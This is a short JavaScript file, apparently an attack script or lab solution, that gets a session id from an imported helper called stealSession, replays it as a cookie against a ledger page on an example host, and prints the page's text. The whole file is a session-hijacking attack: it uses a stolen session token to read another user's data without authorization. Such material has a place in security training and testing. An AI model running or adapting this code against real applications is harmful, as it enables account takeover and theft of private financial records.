import { send } from '../http.js';
import { stealSession } from './tools.js';

const { id } = await stealSession();
const page = await send('https://app.tally.example:8443/ledger', { headers: { cookie: `session=${id}` } });
console.log(`the app answers ${page.status}`);
for (const [, line] of page.text.matchAll(/<(?:li|p)>(.*?)<\/(?:li|p)>/g)) console.log(line);
